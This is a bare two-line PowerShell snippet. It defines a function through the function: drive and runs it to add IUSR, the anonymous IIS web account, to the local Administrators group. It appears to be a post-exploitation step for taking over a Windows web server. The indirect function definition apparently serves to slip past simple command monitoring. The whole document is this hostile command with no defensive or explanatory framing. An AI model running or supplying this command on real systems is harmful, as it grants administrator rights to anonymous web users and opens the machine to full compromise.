Set-Content function:go 'net localgroup Administrators IUSR /add'
go
